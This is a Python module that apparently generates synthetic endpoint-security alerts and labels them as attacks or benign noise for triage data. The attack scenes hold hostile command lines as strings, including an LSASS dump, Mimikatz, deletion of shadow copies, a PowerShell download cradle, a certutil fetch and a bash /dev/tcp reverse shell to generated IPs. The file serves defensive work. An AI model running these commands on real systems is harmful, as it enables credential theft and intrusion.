"""Virus scanners and endpoint detection: what needs a person, and what does not."""

from __future__ import annotations

from generator.families.alerts.endpoint_records import endpoint_writer
from generator.scene import Label, Scene, attack, benign, family
from generator.world import World

Event = tuple[str, str, str, str]


def _scene(world: World, events: list[Event], label: Label) -> Scene:
    scene, write = Scene(), endpoint_writer(world)
    for name, target, process, action in world.some(events, 1, world.pick([1, 1, 1, 2, 3])):
        world.tick(1, 300)
        scene.add(write(name, target, process, action), label)
    return scene


def _home(world: World) -> str:
    return world.pick([f"C:\\Users\\{world.user()}\\AppData\\Local\\Temp\\", f"C:\\Users\\{world.user()}\\Downloads\\", "C:\\ProgramData\\", "C:\\Windows\\Temp\\", "/tmp/", "/var/tmp/", f"C:\\Users\\{world.user()}\\AppData\\Roaming\\"])


def _done(world: World) -> str:
    return world.pick(["quarantined", "cleaned by deleting", "blocked", "detected", "no action taken", "not cleaned, restart required", "allowed (monitor mode)", "mitigation failed", "access denied"])


@family("alerts/endpoint-malware", attack=True, weight=1.5)
def endpoint_malware(world: World) -> Scene:
    names = ["Trojan:Win32/Emotet.RPX!MTB", "Backdoor:Win32/CobaltStrike.A", "Trojan:MSIL/AgentTesla.KA!MTB", "Win32/Qbot.CX trojan", "HEUR:Trojan.Script.Generic", "Mal/Generic-S", "Trojan.GenericKD.70112233", "Unix.Trojan.Mirai-7669677-0", "Trojan:Win32/RedLineStealer!MTB", "Linux/CoinMiner.BM potentially unwanted", "JS/TrojanDownloader.Nemucod", "VBS:Agent-BPV [Trj]", "Behavior:Win32/Persistence.A!ml", "TrojanDropper:O97M/Obfuse.BE", "Exploit:O97M/CVE-2017-11882.RV", "Win32/Formbook.AA", "Trojan:Win64/IcedID", "Worm:Win32/Conficker.B"]
    files = ["invoice_8812.exe", "Rechnung.js", "scan0012.iso", "update.dll", "DHL_label.vbs", "kdevtmpfsi", "svch0st.exe", "Setup_crack.exe", "payload.bin", "doc.lnk", "chrome_update.hta", "b.elf", "order.xlsm"]
    return _scene(world, [(world.pick(names), _home(world) + world.pick(files), world.pick(["outlook.exe", "explorer.exe", "chrome.exe", "winword.exe", "7zFM.exe", "wscript.exe", "bash", "java"]), _done(world)) for _ in range(3)], attack("Malware Detected", "T1204.002", severity=world.pick(["HIGH", "HIGH", "CRITICAL"])))


@family("alerts/endpoint-behaviour", attack=True, weight=1.5)
def endpoint_behaviour(world: World) -> Scene:
    home = _home(world)
    groups = [
        (attack("Credential Theft", "T1003.001", severity="CRITICAL"), [("LSASS memory was read", "C:\\Windows\\System32\\lsass.exe", f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {world.number(500, 900)} {home}l.dmp full", _done(world)), ("HackTool:Win32/Mimikatz.D", home + "m64.exe", "cmd.exe /c m64.exe privilege::debug sekurlsa::logonpasswords", _done(world)), ("Suspicious registry hive export", "HKLM\\SAM", "reg save HKLM\\SAM sam.hiv", _done(world)), ("Browser passwords accessed by unusual process", "Login Data", home + "s.exe", _done(world)), ("NTDS.dit copied from shadow copy", "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit", "cmd.exe /c copy", _done(world))]),
        (attack("Ransomware Activity", "T1486", "T1490", severity="CRITICAL"), [("Ransomware behaviour: many files renamed", "D:\\Shares\\Sales", home + world.word(6) + ".exe", _done(world)), ("CryptoGuard detected ransomware in remote share", "\\\\files\\share", "System", _done(world)), ("Shadow copies deleted", "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", _done(world)), ("Ransom note written", "C:\\Users\\Public\\!!!READ_ME!!!.txt", "enc.exe -path D:\\", _done(world)), ("Backup catalog removed", "wbadmin.exe", "wbadmin delete catalog -quiet", _done(world))]),
        (attack("Defense Evasion", "T1562.001", severity="HIGH"), [("Tamper protection: service stop attempt", "MsMpEng.exe", "powershell Set-MpPreference -DisableRealtimeMonitoring $true", _done(world)), ("Exclusion added", world.pick(["C:\\", home, "*.exe"]), world.pick(["powershell Add-MpPreference -ExclusionPath C:\\", "reg add HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths", "console"]), world.pick(["configuration changed", "saved", "compliant"])), ("File restored from quarantine", home + world.pick(["m64.exe", "svch0st.exe", "xmrig.exe"]), world.pick(["MpCmdRun.exe -Restore", "cmd.exe", "explorer.exe"]), world.pick(["restored", "allowed"])), ("Sensor uninstalled", "CSFalconService", "msiexec /x {..} /qn", "sensor stopped"), ("Vulnerable driver loaded to end protection", home + "RTCore64.sys", "sc create x type= kernel", _done(world)), ("AMSI bypass", "powershell.exe", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", _done(world))]),
        (attack("Process Injection", "T1055.001", severity="HIGH"), [("Remote thread created in another process", "explorer.exe", home + "svc.exe", _done(world)), ("Process hollowing of RegAsm.exe", "RegAsm.exe", home + "po.exe", _done(world)), ("Shellcode in memory of notepad.exe", "notepad.exe", "rundll32.exe", _done(world))]),
        (attack("Suspicious Script", "T1059.001", severity="HIGH"), [("Suspicious PowerShell command line", "powershell.exe", world.pick(["powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", "powershell -nop -c iex((New-Object Net.WebClient).DownloadString('http://" + world.ip_public() + "/a'))", "pwsh -ep bypass -f \\\\10.0.0.9\\x\\r.ps1"]), _done(world)), ("Office application started a shell", "cmd.exe", "winword.exe -> cmd.exe /c certutil -urlcache -f http://" + world.ip_public() + "/a.exe a.exe", _done(world)), ("mshta loads remote script", "mshta.exe", "mshta.exe http://" + world.ip_public() + "/f.hta", _done(world))]),
        (attack("Command and Control", "T1071.001", severity="HIGH"), [("C2 beaconing", "rundll32.exe", f"rundll32.exe {home}a.dll,Start -> {world.ip_public()}:443 every 60 s", _done(world)), ("Network protection: connection to known malware server", world.ip_public(), home + "upd.exe", _done(world)), ("Reverse shell", "/bin/bash", f"bash -i >& /dev/tcp/{world.ip_public()}/4444 0>&1", _done(world)), ("Tunnelling tool", home + "chisel.exe", "chisel.exe client " + world.ip_public() + ":8080 R:socks", _done(world))]),
        (attack("Lateral Movement", "T1021.002", "T1569.002", severity="CRITICAL"), [("PsExec service from unmanaged host", "C:\\Windows\\PSEXESVC.exe", "services.exe", _done(world)), ("WMI remote process creation", "wmiprvse.exe", "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1", _done(world)), ("Pass-the-hash logon", "lsass.exe", "NTLM logon type 9 seclogo", _done(world))]),
        (attack("Persistence", "T1547.001", "T1053.005", severity="HIGH"), [("Run key points to temp folder", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", f"reg add ... /d {home}u.exe", _done(world)), ("Scheduled task runs script from AppData", "schtasks.exe", f"schtasks /create /sc minute /mo 5 /tr \"wscript {home}a.vbs\" /tn Updater", _done(world)), ("WMI event subscription", "scrcons.exe", "__EventFilter -> CommandLineEventConsumer powershell -enc", _done(world))]),
        (attack("Cryptomining", "T1496.001", severity="HIGH"), [("Coin miner process", home + "xmrig.exe", "xmrig -o pool.supportxmr.com:3333 -u 4A", _done(world)), ("Sustained CPU by hidden process", "/tmp/.X11/kswapd0", "kswapd0 --donate-level 1 -o stratum+tcp", _done(world))]),
    ]
    label, events = world.pick(groups)
    return _scene(world, events, label)


@family("alerts/endpoint-test-and-unwanted", attack=False, weight=1.3)
def endpoint_test(world: World) -> Scene:
    home = _home(world)
    events: list[tuple[Event, str]] = [
        (("Virus:DOS/EICAR_Test_File", world.pick(["C:\\Test\\eicar.com", "/root/eicar.txt", home + "eicar_com.zip"]), world.pick(["explorer.exe", "chrome.exe", "cmd.exe"]), _done(world)), "Authorised Scan"), (("Eicar-Test-Signature", "/srv/scan/eicar.com", "clamdscan", _done(world)), "Authorised Scan"), (("PUA:Win32/InstallCore", home + "ccsetup.exe", "chrome.exe", _done(world)), "Blocked Noise"), (("PUADlManager:Win32/OfferCore toolbar", home + "pdfconverter_setup.exe", "msedge.exe", _done(world)), "Blocked Noise"), (("Adware.Generic tracking cookie", "Cookies:doubleclick.net", "firefox.exe", _done(world)), "Blocked Noise"), (("Web control: category advertising blocked", "ads.doubleclick.net", "chrome.exe", _done(world)), "Blocked Noise"), (("Low reputation download warned", home + "printer-driver.exe", "msedge.exe", _done(world)), "Application Event"),
        (("Phishing page blocked", "hxxp://parcel-info.example", "chrome.exe", _done(world)), "Blocked Noise"), (("File restored from quarantine", "C:\\Program Files\\" + world.pick(["ERP", "DATEV", "Lexware"]) + "\\client.exe", world.pick(["MpCmdRun.exe -Restore", "console", "explorer.exe"]), world.pick(["restored", "allowed"])), "Administration"), (("Suspicious PowerShell command line", "powershell.exe", "powershell -ExecutionPolicy Bypass -File C:\\ProgramData\\RMM\\inventory.ps1", _done(world)), "Administration"), (("USB storage connected", "E:\\", "explorer.exe", "read only by policy"), "Application Event"),
    ]
    scene, write = Scene(), endpoint_writer(world)
    for event, kind in world.some(events, 1, world.pick([1, 1, 2])):
        world.tick(1, 300)
        scene.add(write(*event), benign(kind))
    return scene


@family("alerts/endpoint-housekeeping", attack=False, weight=1.5)
def endpoint_housekeeping(world: World) -> Scene:
    version = f"1.{world.number(300, 420)}.{world.number(1, 2000)}.0"
    events: list[tuple[Event, str]] = [
        (("Scan finished: no threats found", world.pick(["C:\\", "/home", "D:\\Shares"]), "scheduled scan, 214332 objects", "0 infected, 0 cleaned"), "Authorised Scan"), (("Scan started", "full system", "scheduled task", "running"), "Authorised Scan"), (("Signature update", f"malware definitions {version}", "MpCmdRun.exe", "updated successfully"), "Software Update"), (("Signature update failed", f"definitions {version}", "update server", "error 0x80072ee2 timeout, will retry"), "Application Error"), (("Detection engine updated", "modules: ransomware shield, exploit blocker", "updater", "success"), "Software Update"), (("Real-time protection started", "service", "services.exe", "enabled"), "System Activity"), (("Endpoint offline for 3 days", world.workstation(), "management server", "last seen"), "Monitoring Probe"), (("Agent upgrade", "sensor 7.11", "installer", "restart pending"), "Software Update"),
        (("Quarantine emptied by retention", "items older than 30 days: trojan, pua", "housekeeping", "deleted"), "Scheduled Job"), (("File skipped in scan", "C:\\pagefile.sys", "on-demand scan", "locked by another process"), "Application Error"), (("Archive is password protected", "D:\\backup\\payroll.zip", "nightly scan", "not scanned"), "Application Event"), (("Policy applied", "Ransomware protection: standard", "console", "compliant"), "Administration"), (("Exclusion added", world.pick(["D:\\SQLData\\*.mdf", "C:\\Program Files\\Veeam\\", "/var/lib/mysql"]), world.pick(["console", "powershell Add-MpPreference -ExclusionPath", "gpsvc"]), world.pick(["configuration changed", "saved", "compliant"])), "Administration"), (("Device released from isolation", world.workstation(), "console", "released"), "Administration"), (("License expires in 14 days", "protection", "console", "warning"), "Application Event"), (("Vulnerable application found", "7-Zip 19.00 CVE-2023-31102", "vulnerability assessment", "update available"), "Authorised Scan"), (("Controlled folder access blocked an app", "C:\\Users\\Public\\Documents", "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat.exe", _done(world)), "Application Event"),
    ]
    scene, write = Scene(), endpoint_writer(world)
    for event, kind in world.some(events, 1, world.pick([1, 1, 2, 3])):
        world.tick(1, 3000)
        scene.add(write(*event), benign(kind))
    return scene
